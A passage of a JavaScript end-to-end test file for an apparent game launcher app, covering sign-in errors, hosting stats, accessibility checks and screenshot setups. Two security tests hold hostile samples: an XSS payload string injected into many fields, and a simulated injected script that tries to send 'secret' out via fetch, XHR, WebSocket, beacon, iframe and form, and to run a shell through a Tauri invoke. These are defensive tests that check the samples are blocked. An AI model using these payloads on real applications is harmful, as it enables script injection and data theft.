      assert.deepEqual(forgets.at(-1), { command: "forget-account", user: world.signedIn.account.name });
      assert.doesNotMatch(await kept(), /jellopy|poring/);
    },

    "a sign-in that fails says what it was: name, network, server, clock or version": async (page) => {
      const ui = ids(page);
      await ui.at("mode-sign-in").click();
      await ui.at("user").fill("poring");
      await ui.at("password").fill("jellopy-7");
      const said = new Set();
      for (const code of [
        "coordinator-unreachable",
        "coordinator-untrusted",
        "coordinator-unproven",
        "coordinator-key-changed",
        "coordinator-protocol",
        "coordinator-fault",
        "certificate-expired",
        "proxy-unreachable",
        "too-many-requests",
        "banned",
      ]) {
        await ui.at("submit").click();
        await ui.emit(world.problem(code, "http://127.0.0.1:8001", "the system's own words"));
        assert.equal(await ui.at("sign-in-problem").getAttribute("data-code"), code);
        assert.match(await ui.text("sign-in-problem"), /the system's own words/);
        said.add((await ui.text("sign-in-problem")).split("\n").slice(0, 2).join(" "));
        assert.equal(await page.getByTestId("notice").count(), 0, "at the form, and nowhere else");
        assert.equal(await ui.at("user").inputValue(), "poring", "nothing has to be typed again");
      }
      assert.ok(said.size >= 8, `told apart: ${[...said].join(" | ")}`);
    },

    "hosting: what this computer is like, and what it has given, day by day": async (page) => {
      const ui = await toZones(page);
      await ui.at("hosting-toggle").click();
      assert.match(await ui.text("hosting-check"), /\d+ processor cores?/);
      assert.match(await ui.text("contribution"), /Nothing yet/);
      await ui.at("hosting-check-run").click();
      await ui.emit(world.diagnosed);
      assert.match(await ui.text("hosting-check"), /Router type: symmetric/);
      await ui.emit({ event: "host-state", host: world.host });
      await ui.emit({ event: "host-state", host: { ...world.host, uploaded_bytes: 3_000_000, uptime_ms: 95_000 } });
      assert.match(await ui.text("contribution-sum"), /^3\.0 MB in 1:35, over 1 day$/);
      await ui.emit({ event: "host-state", host: { ...world.host, uploaded_bytes: 3_000_000, uptime_ms: 95_000, state: "stopped" } });
      await page.reload();
      await toZones(page);
      await ui.at("hosting-toggle").click();
      assert.match(await ui.text("contribution-sum"), /^3\.0 MB/, "it is kept");
    },

    "text of others is never markup, on any page": async (page) => {
      const ui = await toZones(page);
      const evil = '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script><b>bold</b>';
      await page.evaluate(
        ([settings, log, imported]) => Object.assign(window.engine, { settings, log, imported }),
        [
          { ...staff.settings, file: evil, warnings: [evil], values: { ...staff.settings.values, "coordinator.proxy": evil } },
          [staff.logLine(1, "error", evil, evil)],
          { values: [{ key: evil, value: evil }], left: [{ key: evil, why: evil }] },
        ],
      );
      const none = async (where) => {
        assert.equal(await page.locator("#app b, #app script, #app img:not(.brand img)").count(), 0, where);
        assert.equal(await page.evaluate(() => window.pwned), undefined, where);
      };
      await ui.emit({ event: "notice", text: evil, from: evil, zone: null, timestamp: "2026-01-01T12:00:00Z" });
      await ui.emit({ ...staff.admin, account: { name: evil, role: "admin" } }, world.zonesNamed(evil));
      await none("zones and notices");
      await ui.at("staff-toggle").click();
      const fields = [{ name: evil, value: evil }];
      await ui.emit({ event: "inspecting", on: true }, { event: "packets", packets: [staff.packet(0, { fields, name: evil, class: evil })], dropped: 0 });
      await page.getByTestId("packet").locator("button").click();
      await none("packets");
      for (const [tab, ...events] of [
        ["sessions", staff.sessions(staff.session("s-1", evil, { hosts: [evil], zone_id: evil }))],
        ["hosts", staff.hosts(evil)],
        ["zones", staff.fleet(true)],
        ["bans", staff.bans(staff.ban(1, { account: evil, reason: evil, by: evil }))],
        ["security", staff.audit(evil)],
      ]) {
        await ui.at(`staff-tab-${tab}`).click();
        await ui.emit(...events);
        assert.match(await ui.text("staff-group"), /<img src=x/, tab);
        await none(tab);
      }
      await ui.at("settings-toggle").click();
      await ui.at("settings-file").setInputFiles({ name: "evil.ini", mimeType: "text/plain", buffer: Buffer.from("x") });
      await ui.at("settings-imported").waitFor();
      await none("settings");
      await ui.at("diagnostics-toggle").click();
      await ui.emit({ ...world.diagnosed, export: evil });
      await ui.at("log-toggle").click();
      await page.getByTestId("log-line").first().waitFor();
      await none("help");
    },

    "a script that got in reaches no foreign host and no command that is not the window's": async (page, { faults }) => {
      await ids(page).at("submit").waitFor();
      let reached = 0;
      const foreign = createServer((_, response) => {
        reached += 1;
        response.writeHead(200, { "access-control-allow-origin": "*" }).end("hello");
      });
      await new Promise((done) => foreign.listen(0, "127.0.0.1", done));
      const url = `http://127.0.0.1:${foreign.address().port}/stolen`;
      const outcome = await page.evaluate(async (url) => {
        const breaches = [];
        document.addEventListener("securitypolicyviolation", (event) => breaches.push(event.effectiveDirective));
        const tries = {
          fetch: () => fetch(url),
          xhr: () =>
            new Promise((done, failed) => {
              const request = new XMLHttpRequest();
              request.onload = done;
              request.onerror = failed;
              request.open("POST", url);
              request.send("secret");
            }),
          socket: () =>
            new Promise((done, failed) => {
              const socket = new WebSocket(url.replace("http", "ws"));
              socket.onopen = done;
              socket.onerror = failed;
            }),
          image: () =>
            new Promise((done, failed) => {
              const image = new Image();
              image.onload = done;
              image.onerror = failed;
              image.src = url;
            }),
          script: () =>
            new Promise((done, failed) => {
              const script = document.createElement("script");
              script.onload = done;
              script.onerror = failed;
              script.src = url;
              document.head.append(script);
            }),
          // eslint-disable-next-line no-eval
          eval: async () => eval("1 + 1"),
          inline: async () => {
            const script = document.createElement("script");
            script.textContent = "window.pwned = true";
            document.head.append(script);
            if (window.pwned !== true) throw new Error("it did not run");
          },
          worker: () => new Promise((done, failed) => {
            const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
            worker.onmessage = done;
            worker.onerror = failed;
          }),
          command: () => window.__TAURI_INTERNALS__.invoke("plugin:shell|execute", { program: "sh" }),
        };
        const done = [];
        for (const [name, attempt] of Object.entries(tries)) {
          try {
            await attempt();
            done.push(name);
          } catch {
            // As it should be.
          }
        }
        const beacon = navigator.sendBeacon(url, "secret");
        const frame = document.createElement("iframe");
        frame.src = url;
        document.body.append(frame);
        const form = document.createElement("form");
        form.action = url;
        document.body.append(form);
        form.submit();
        await new Promise((done) => setTimeout(done, 300));
        return { done, beacon, breaches: [...new Set(breaches)].sort() };
      }, url);
      foreign.close();
      assert.deepEqual(outcome.done, [], "every attempt failed");
      assert.equal(reached, 0, "and nothing of it left the window");
      for (const directive of ["connect-src", "img-src", "script-src-elem", "frame-src", "worker-src"]) {
        assert.ok(outcome.breaches.includes(directive), `${directive}: ${outcome.breaches.join(", ")}`);
      }
      assert.ok(faults.length > 0, "the browser has told of each");
      faults.length = 0;
    },

    ...Object.fromEntries(
      [
        [1024, 640],
        [1280, 800],
      ].map(([width, height]) => [
        `axe finds nothing where something is wrong or under way, ${width} by ${height}`,
        async (page) => {
          await page.setViewportSize({ width, height });
          await everyTrouble(page, tools, async (where) => {
            for (const colorScheme of ["light", "dark"]) {
              await page.emulateMedia({ colorScheme });
              await settled(page);
              await holds(page, `${where}, ${colorScheme}`);
              assert.deepEqual(await violations(page), [], `${where}, ${colorScheme}`);
            }
          });
        },
      ]),
    ),

    ...Object.fromEntries(
      [
        [1024, 640, "light"],
        [3840, 2160, "dark"],
      ].map(([width, height, colorScheme]) => [
        `axe finds nothing on any page, and ${width} by ${height} holds it, ${colorScheme}`,
        async (page) => {
          await page.setViewportSize({ width, height });
          await page.emulateMedia({ colorScheme });
          await everyPage(page, tools, async (where) => {
            await settled(page);
            await holds(page, `${where}, ${width}`);
            assert.deepEqual(await page.evaluate(world.spilled), [], `${where}, ${width}`);
            assert.deepEqual(await violations(page), [], `${where}, ${colorScheme}`);
          });
        },
      ]),
    ),
  };
}

export function pagePictures({ ids, toZones, toPlay, history }) {
  return {
    news: async (page) => {
      const ui = ids(page);
      await ui.at("submit").waitFor();
      await withNews(page, ui, 2);
      await ui.at("server-choice").locator("summary").click();
      await page.evaluate(() => scrollTo(0, 0));
    },
    "zones-search": async (page) => {
      const ui = await toZones(page);
      await ui.emit(staff.manyZones(world.zonesEvent.zones[0], 1000));
      await ui.at("zone-search").fill("number 4");
      await ui.at("zone-zone-42").click();
      await ui.at("favourite").click();
      await ui.emit(staff.prepared("zone-42"));
    },
    inspector: async (page) => {
      const ui = await toZones(page);
      await ui.emit(staff.gm);
      await ui.at("staff-toggle").click();
      await ui.emit({ event: "inspecting", on: true }, staff.packets(0, 24));
      await page.getByTestId("packet").nth(1).locator("button").click();
    },
    sessions: async (page) => {
      const ui = await toZones(page);
      await ui.emit(staff.admin);
      await ui.at("staff-toggle").click();
      await ui.at("staff-tab-sessions").click();
      await ui.emit(staff.twoSessions);
    },
    bans: async (page) => {
      const ui = await toZones(page);
      await ui.emit(staff.admin);
      await ui.at("staff-toggle").click();
      await ui.at("staff-tab-bans").click();
      await ui.emit(staff.bans(staff.ban(7), staff.ban(6, { account: "trudy", until: 1_770_000_000 })));
    },
    preferences: async (page) => {
      const ui = await toZones(page);
      await page.evaluate((settings) => (window.engine.settings = settings), staff.settings);
      await ui.at("settings-toggle").click();
      await ui.at("group-paths").locator("summary").click();
      await ui.at("group-paths").scrollIntoViewIfNeeded();
      await ui.at("set-p2p.hold_seconds").fill("301");
    },
    hosting: async (page) => {
      const ui = await toZones(page);
      await ui.at("hosting-toggle").click();
      await ui.emit(world.diagnosed);
      await ui.emit({ event: "host-state", host: world.host });
    },
    diagnostics: async (page) => {
      const ui = await toZones(page);
      await ui.at("diagnostics-toggle").click();
      await ui.emit(world.diagnosed);
    },
    log: async (page) => {
      const ui = await toZones(page);
      await page.evaluate((log) => (window.engine.log = log), staff.log);
      await ui.at("diagnostics-toggle").click();
      await ui.emit(world.diagnosed);
      await ui.at("log-toggle").click();
      await page.getByTestId("log-line").first().waitFor();
      await ui.at("log-section").scrollIntoViewIfNeeded();
    },
    accounts: async (page) => {
      await ids(page).at("submit").waitFor();
      await page.evaluate(() => localStorage.setItem("warp.users", '["poring","gm-anna"]'));
      await page.reload();
      await ids(page).at("kept-accounts").waitFor();
    },
    paths: async (page) => {
      const ui = await toPlay(page);
      await history(page, ui);
      await ui.at("redundant-cost").scrollIntoViewIfNeeded();
    },
  };
}
